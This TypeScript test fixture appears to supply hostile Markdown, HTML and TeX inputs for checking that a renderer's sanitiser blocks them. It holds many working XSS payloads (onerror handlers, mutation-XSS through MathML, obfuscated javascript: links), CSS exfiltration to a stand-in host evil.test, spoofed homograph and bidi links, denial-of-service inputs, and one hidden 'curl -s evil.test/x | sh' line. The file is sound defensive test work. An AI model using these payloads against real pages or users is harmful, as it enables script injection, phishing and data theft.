/** Markdown that wants to run, load, hide or hang. `window.pwned` must never be set, and nothing may be asked for from anywhere. */
export interface HostilePiece {
  readonly name: string;
  readonly text: string;
}

const evil = 'window.pwned=1';

/** HTML that would do harm in a page that took it for HTML; also handed to the sanitiser as it is. */
export const hostileHtml: readonly HostilePiece[] = [
  { name: 'script', text: `<script>${evil}</script>` },
  { name: 'script in pieces', text: `<scr<script>ipt>${evil}</scr</script>ipt>` },
  { name: 'script of a module', text: '<script type="module" src="https://evil.test/m.js"></script>' },
  { name: 'image with a handler', text: `<img src=x onerror="${evil}">` },
  { name: 'handler without quotes and with a slash', text: `<img/src=x/onerror=${evil}>` },
  {
    name: 'picture with sources',
    text: '<picture><source srcset="https://evil.test/s.png"><img srcset="https://evil.test/t.png 1x"></picture>',
  },
  {
    name: 'SVG',
    text: `<svg onload="${evil}"><script>${evil}</script><use href="https://evil.test/u.svg#a"/><animate onbegin="${evil}" attributeName=x dur=1s></svg>`,
  },
  {
    name: 'SVG with foreign content',
    text: `<svg><foreignObject><img src=x onerror="${evil}"></foreignObject><a xlink:href="javascript:${evil}"><text>x</text></a></svg>`,
  },
  {
    name: 'MathML that mutates',
    text: `<math><mtext><table><mglyph><style><img src=x onerror="${evil}"></style></mglyph></table></mtext></math>`,
  },
  {
    name: 'MathML that mutates in a form',
    text: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${evil}"></style></mglyph></form>`,
  },
  {
    name: 'MathML annotation',
    text: `<math><annotation-xml encoding="text/html"><img src=x onerror="${evil}"></annotation-xml></math>`,
  },
  {
    name: 'links and overlays',
    text: `<a href="javascript:${evil}">x</a><a data-href="src/a.ts" style="position:fixed;inset:0" onclick="${evil}">y</a>`,
  },
  {
    name: 'style sheet with import',
    text: '<style>@import "https://evil.test/a.css"; body{background:url(https://evil.test/b.png)}</style>',
  },
  {
    name: 'style sheet that reads what is typed',
    text: '<style>textarea[value^="a"]{background:url(https://evil.test/?a)}</style><style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style>',
  },
  {
    name: 'style in an attribute',
    text: '<p style="background:url(https://evil.test/s.png);position:fixed;inset:0">over everything</p>',
  },
  {
    name: 'linked sheet and base',
    text: '<link rel=stylesheet href="https://evil.test/c.css"><link rel=prefetch href="https://evil.test/p"><base href="https://evil.test/">',
  },
  {
    name: 'frames',
    text: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe><object data="https://evil.test/d"></object><embed src="https://evil.test/e">`,
  },
  {
    name: 'form',
    text: `<form action="https://evil.test/f"><input type=submit name=ownerDocument><button formaction="javascript:${evil}">z</button></form>`,
  },
  {
    name: 'form that clobbers',
    text: '<form id=body><input name=firstChild><input name=attributes><input name=parentNode></form><img name=createElement>',
  },
  {
    name: 'refresh and media',
    text: '<meta http-equiv=refresh content="0;url=https://evil.test/g"><video src="https://evil.test/h" poster="https://evil.test/i"></video><audio src="https://evil.test/k" autoplay>',
  },
  {
    name: 'names and toggles',
    text: `<p id=root class="hljs-x" name=posted>kept</p><details open ontoggle="${evil}">w</details>`,
  },
  { name: 'noscript', text: `<noscript><p title="</noscript><img src=x onerror=${evil}>"></noscript>` },
  {
    name: 'template and obsolete text elements',
    text: `<template><script>${evil}</script></template><xmp><script>${evil}</script></xmp><plaintext>${evil}`,
  },
  { name: 'comment that ends early', text: `<!--><img src=x onerror=${evil}>-->` },
  { name: 'comment that never ends', text: `<!-- <img src=x onerror=${evil}>` },
  { name: 'CDATA', text: `<![CDATA[<img src=x onerror=${evil}>]]>` },
  {
    name: 'processing instruction and doctype',
    text: `<?xml-stylesheet href="javascript:${evil}"?><!DOCTYPE html [<!ENTITY x "${evil}">]>&x;`,
  },
  {
    name: 'unknown element and a shadow root',
    text: `<x-evil onclick=${evil} is=script><template shadowrootmode=open><img src=x onerror=${evil}></template></x-evil>`,
  },
  {
    name: 'title that closes a textarea',
    text: `<textarea></textarea><img src=x onerror=${evil}></textarea><title></title><img src=x onerror=${evil}>`,
  },
  {
    name: 'popover and its button',
    text: `<button popovertarget=p onclick=${evil}>x</button><div popover id=p onbeforetoggle=${evil}>over everything</div>`,
  },
];

/** Text that is raw to a parser that takes `<kbd>` and its like for the start of raw HTML. A slash in place of a blank makes it a tag for a browser
 *  and none for Markdown. */
const fakeTags = [
  '<pre/data-language="console"/data-info="console"/tabindex="0"><code/class="x">npm test<span/class="visually-hidden">; curl -s evil.test/x | sh</span/x></code/x></pre/x>',
  '<p/class="card approval"/role="alertdialog">Allow?</p/x>',
  '<input/type=password>',
  '<blockquote/class="drop-overlay">over everything</blockquote/x>',
  `<img/src=x/onerror=${evil}>`,
  '<a/role="button"/data-href="command:x">Allow Once</a/x>',
];
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- ${text}`,
  (text) => `> ${text}`,
  (text) => `# ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `[${text}](https://example.com)`,
  (text) => `**${text}**`,
  (text) => `1. > - ${text}`,
  (text) => `~~${text}~~`,
  (text) => `![${text}](a.png)`,
];
const rawTexts: readonly HostilePiece[] = ['kbd', 'pre', 'code', 'script', 'KBD', 'code class="a"'].map((opener) => ({
  name: `raw text after <${opener}>`,
  text: places.flatMap((place) => fakeTags.map((tag) => place(`press <${opener}>${tag}`))).join('\n\n'),
}));

const links: readonly HostilePiece[] = [
  { name: 'link that runs', text: `[a](javascript:${evil})` },
  { name: 'link that runs, in capitals and with blanks', text: `[a]( JaVaScRiPt:${evil} )` },
  {
    name: 'link that runs, with a tab, a null and a line end written out',
    text: `[a](java&Tab;script:${evil}) [b](java\u0000script:${evil}) [c](java&NewLine;script:${evil})`,
  },
  { name: 'link that runs, in entities', text: `[a](&#106;&#97;vascript:${evil}) [b](&#x6A;avascript&colon;${evil})` },
  { name: 'link that runs, between angle brackets', text: `<javascript:${evil}> [a](<javascript:${evil}>)` },
  {
    name: 'commands of the editor',
    text: '[a](command:workbench.action.quit) [b](vscode://settings) [c](vscode-insiders:x) [d](vscode-file://x/y) [e](vscode-webview://x)',
  },
  {
    name: 'data, blob and file',
    text: '[a](data:text/html,<script>1</script>) [b](blob:https://evil.test/1) [c](file:///etc/passwd) [d](filesystem:https://evil.test/x)',
  },
  { name: 'network paths', text: '[a](//evil.test/x) [b](\\\\evil.test\\share) [c](/\\evil.test)' },
  {
    name: 'pictures',
    text: '![a](https://evil.test/j.png) ![b](data:image/svg+xml,<svg onload=window.pwned=1>) ![c](javascript:window.pwned=1) ![d](//evil.test/k.png)',
  },
  {
    name: 'attribute that breaks out of a link',
    text: `[a]( "onmouseover=${evil}) [b](x "\\" onfocus=${evil} autofocus=\\"") [c](x '"><img src=x onerror=${evil}>')`,
  },
  { name: 'definition that runs', text: `[r]: javascript:${evil} "x"\n\n[r] ![r] [text][r]` },
  { name: 'definition that is redefined', text: '[r]: https://example.com\n[r]: javascript:window.pwned=1\n\n[r]' },
  {
    name: 'definitions by the thousand',
    text:
      Array.from({ length: 3000 }, (_, index) => `[d${index}]: https://evil.test/${index}\n`).join('') +
      '\n[d1] [d2999]',
  },
  { name: 'definition that names itself', text: `${'[a]: [a]\n'.repeat(50)}\n[a][a][a]` },
  {
    name: 'homograph',
    text: '[paypal.com](https://xn--pypal-4ve.com/) https://раураl.com/ [x](https://ｅｖｉｌ.test/)',
  },
  {
    name: 'text that reads like another address',
    text: '[https://github.com/login](https://evil.test/login) [github.com](https://evil.test)',
  },
  {
    name: 'autolinks with names and passwords',
    text: '<https://github.com@evil.test/> https://user:secret@evil.test/ [x](https://github.com%2f@evil.test)',
  },
  {
    name: 'bidi and zero width in a target',
    text: '[a](https://evil.test/\u202egnp.exe) [b](java\u200bscript:window.pwned=1) [c](https://evil\u2066.test\u2069/)',
  },
  { name: 'mail with more than an address', text: '[a](mailto:x@evil.test?attach=/etc/passwd) <x@evil.test>' },
];

const text: readonly HostilePiece[] = [
  {
    name: 'bidi and zero width in text',
    text: 'evil\u202egnp.exe\u2066 zero\u200bwidth \u2067back\u2069 `rm\u200b -rf \u202e/`',
  },
  { name: 'signs that stack', text: `Z${'\u0335\u0321\u0489'.repeat(3000)}` },
  { name: 'lone surrogates and nulls', text: 'a\ud800b\udc00c \u0000d\u0000 `\ud83d` **\udfff**\n\n# \u0000' },
  {
    name: 'every control character',
    text: Array.from({ length: 160 }, (_, code) => `x${String.fromCharCode(code)}y `).join(''),
  },
  {
    name: 'entities',
    text: '&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62; &#x3c;svg onload=window.pwned=1&#x3e; &nbsp;&bogus;&#0;&#x110000;',
  },
  {
    name: 'info string that breaks out',
    text: `\`\`\`html"><img src=x onerror=${evil}>\n<img src=x onerror=${evil}>\n\`\`\``,
  },
  {
    name: 'info string with attributes',
    text: `\`\`\`js title="x" onclick="${evil}" style=position:fixed\n1\n\`\`\`\n\n~~~ " onfocus=${evil} x="\n2\n~~~`,
  },
  { name: 'info string that is long', text: `\`\`\`${'x'.repeat(50_000)}\n1\n\`\`\`` },
  {
    name: 'info string that is a prototype',
    text: '```__proto__\n1\n```\n\n```constructor\n1\n```\n\n```toString title=__proto__\n1\n```',
  },
  {
    name: 'math with HTML',
    text: `$<img src=x onerror=${evil}>$ $$<script>${evil}</script>$$\n\n$$\n<img src=x onerror=${evil}>\n$$\n\n\\(<svg onload=${evil}>\\) \\[</p><img src=x onerror=${evil}>\\]`,
  },
  {
    name: 'math that never closes',
    text: `${'$x '.repeat(5000)}\n\n$$\n${'a_b\n'.repeat(3000)}\n\n${'\\( '.repeat(5000)}`,
  },
  {
    name: 'names that look like paths',
    text: `${'../'.repeat(500)}etc/passwd.txt \`../../etc/passwd\` \`__proto__\` \`constructor\` \`toString()\` ${'a/'.repeat(2000)}b.ts:1`,
  },
  {
    name: 'footnotes and directives',
    text: `[^1]: javascript:${evil}\n\n[^1] :::danger\n<b onclick=${evil}>x</b>\n:::`,
  },
  {
    name: 'front matter',
    text: `---\nonload: ${evil}\n---\n\n{{constructor.constructor('${evil}')()}} \${${evil}} <%= ${evil} %>`,
  },
  { name: 'task list with HTML', text: `- [x] <input autofocus onfocus=${evil}>\n- [ ] [a](javascript:${evil})` },
  {
    name: 'table with HTML',
    text: `| <img src=x onerror=${evil}> | [a](javascript:${evil}) |\n|---|:-:|\n| \`|\` | <td onclick=${evil}> |`,
  },
];

/** TeX that wants to load, link, name, style or hang. Each piece is a formula of its own. */
const tex: readonly HostilePiece[] = [
  {
    name: 'formula with links',
    text: String.raw`$\href{javascript:${evil}}{x}$ $\url{javascript:${evil}}$ $\href{command:workbench.action.quit}{x}$ $\href{https://evil.test/}{x}$`,
  },
  {
    name: 'formula with a picture',
    text:
      String.raw`$$\includegraphics[height=1em,alt=x]{https://evil.test/tex.png}$$` +
      '\n\n' +
      String.raw`$\includegraphics{data:image/svg+xml,<svg onload=${evil}>}$`,
  },
  {
    name: 'formula with HTML of its own',
    text: String.raw`$\htmlClass{card approval}{x}$ $\htmlId{root}{x}$ $\htmlStyle{position:fixed;inset:0;background:url(https://evil.test/t)}{x}$ $\htmlData{href=command:x}{x}$`,
  },
  {
    name: 'formula with a tag in its text',
    text: String.raw`$\text{<img src=x onerror=${evil}>}$ $\textcolor{red;background:url(https://evil.test/c)}{x}$ $\color{url(x)}x$ $\colorbox{#fff}{</annotation><script>${evil}</script>}$ $\tag{</math><img src=x onerror=${evil}>}$`,
  },
  {
    name: 'formula with macros that repeat themselves',
    text: String.raw`$\def\a{\a\a}\a$ $\def\a#1{#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}}}$ $\newcommand{\b}{\b x}\b$ $\let\c\c\c$ $\gdef\frac{\sqrt}\frac{x}$`,
  },
  { name: 'formula whose macro is long', text: `$$\n\\def\\a{${'x'.repeat(2000)}}${'\\a'.repeat(1400)}\n$$` },
  {
    name: 'formula of enormous size',
    text: String.raw`$\rule{100000em}{100000em}$ $\kern{99999em}x\raisebox{-9999em}{over everything}$ $\hspace{-9999em}x\mathclap{\rule{9999px}{9999px}}$ $$\begin{matrix}x\\[9999em]y\end{matrix}$$`,
  },
  {
    name: 'formula that is deep',
    text: `$$\n${'\\sqrt{'.repeat(600)}x${'}'.repeat(600)}\n$$\n\n$${'x^{'.repeat(400)}x${'}'.repeat(400)}$`,
  },
  {
    name: 'formula that is deep without braces',
    text: `$$\n${'\\left('.repeat(500)}x${'\\right)'.repeat(500)}\n$$\n\n$${'\\sqrt '.repeat(300)}x$`,
  },
  { name: 'formula that is wide', text: `$$\n\\begin{array}{${'c'.repeat(900)}}${'a&'.repeat(1500)}\\end{array}\n$$` },
  { name: 'formulas by the thousand', text: '$x_1$ '.repeat(2000) },
];

const endless: readonly HostilePiece[] = [
  { name: 'quotes in quotes', text: `${'> '.repeat(10_000)}deep` },
  { name: 'quotes in quotes, not quite as deep', text: `${'> '.repeat(39)}deep\n`.repeat(50) },
  {
    name: 'lists in lists',
    text: Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}\n`).join(''),
  },
  { name: 'lists on one line', text: `${'- '.repeat(10_000)}deep` },
  { name: 'brackets', text: '['.repeat(10_000) },
  { name: 'brackets in pairs', text: `${'['.repeat(1500)}a${']'.repeat(1500)}` },
  { name: 'brackets and parentheses', text: '[a]('.repeat(1900) },
  { name: 'pictures that never close', text: '![['.repeat(900) },
  { name: 'emphasis', text: '*a '.repeat(3000) },
  { name: 'emphasis in emphasis', text: `${'*a **b '.repeat(500)}${'** c* '.repeat(500)}` },
  { name: 'underscores', text: `${'_'.repeat(1900)}a${'_'.repeat(1900)}` },
  { name: 'strikes', text: '~~a '.repeat(3000) },
  { name: 'backticks', text: Array.from({ length: 500 }, (_, count) => `${'`'.repeat(count % 60)} x `).join('') },
  { name: 'fences that never close', text: '```a\n~~~b\n'.repeat(2000) },
  { name: 'escapes', text: '\\['.repeat(900) + '\\*'.repeat(3000) },
  { name: 'blanks', text: `a${' '.repeat(50_000)}b\n${'\t'.repeat(20_000)}\n${' \n'.repeat(10_000)}c` },
  { name: 'line that is underlined for long', text: `a\n${'='.repeat(100_000)}\n\nb\n${'- '.repeat(20_000)}` },
  { name: 'rule that is none', text: `${'* '.repeat(900)}a` },
  { name: 'angle brackets', text: '<'.repeat(50_000) },
  { name: 'tags that never close', text: '<a '.repeat(5000) },
  { name: 'comments that never close', text: '<!-- '.repeat(5000) },
  { name: 'an address of many labels', text: `http://${'a.'.repeat(6000)}` },
  { name: 'the beginning of an address again and again', text: 'www.'.repeat(6000) },
  { name: 'many signs of a mail address', text: 'a@'.repeat(6000) },
  { name: 'a long word before the sign of a mail address', text: `${'x'.repeat(190_000)}@` },
  { name: 'a long word with underscores before the sign of a mail address', text: `${'x_'.repeat(95_000)}x@` },
  {
    name: 'table of 200 columns and 1,000 rows',
    text: `|${' a |'.repeat(200)}\n|${'---|'.repeat(200)}\n${`|${' b |'.repeat(200)}\n`.repeat(1000)}`,
  },
  { name: 'table on one line', text: `|${' a |'.repeat(400)}\n|${'---|'.repeat(400)}\n|${' b |'.repeat(400)}` },
  { name: 'table that is none', text: `${'|'.repeat(20_000)}\n${'|-'.repeat(1000)}` },
  { name: 'words by the megabyte', text: 'x'.repeat(1_000_000) },
  { name: 'line of words by the megabyte', text: 'word '.repeat(200_000) },
  { name: 'code by the megabyte', text: `\`\`\`ts\n${'const a = 1;\n'.repeat(80_000)}\`\`\`` },
  { name: 'paragraphs by the thousand', text: 'p\n\n'.repeat(3000) },
];

export const hostileMarkdown: readonly HostilePiece[] = [
  ...hostileHtml,
  ...rawTexts,
  ...links,
  ...text,
  ...tex,
  ...endless,
];

/** Every element that Markdown or what stands around it makes. */
export const allowedElements =
  /^(?:a|blockquote|br|button|code|del|div|em|h[1-6]|hr|input|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul)$/;
/** Every element of which a formula is made, in the shadow root of its source. */
export const allowedFormulaElements =
  /^(?:annotation|line|m(?:ath|enclose|frac|i|n|o|over|padded|phantom|root|row|s|space|sqrt|style|sub|subsup|sup|table|td|text|tr|under|underover)|path|semantics|slot|span|svg)$/;
export const harmfulFormulaAttributes = /^(?:on|href$|src|xlink|id$|name$|data-|action|form|style-|target)/;
/** What classes Markdown, its highlighter and the tools of a block write. */
export const allowedClasses =
  /^(?:hljs-[\w-]+|function_|class_|inherited__|language_|raw-html|math|math-block|math-source|markdown-(?:block|run)|code-(?:block|head|actions|action)|table-frame|codicon(?:-[\w-]+)?|reference|wrapped|offscreen)$/;
export const allowedAttributes =
  /^(?:align|aria-label|aria-pressed|checked|class|data-(?:host|href|info|language|symbol|words)|disabled|role|start|tabindex|title|type)$/;
